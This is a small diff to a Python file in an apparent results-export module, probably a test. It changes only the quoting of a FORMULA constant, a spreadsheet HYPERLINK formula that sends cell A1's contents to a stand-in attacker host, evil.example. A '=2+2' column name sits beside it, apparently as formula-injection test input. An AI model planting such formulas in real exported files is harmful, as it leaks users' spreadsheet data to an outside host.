@@ -17,7 +17,7 @@ from orchestrator.ledger.keys import Ref
 from orchestrator.ledger.records import Attempt, Item, Spec
 from orchestrator.reports.results import as_csv, as_jsonl, row
 
-FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 COLUMNS = ("prompt", "product", "=2+2", "offset")
 
 
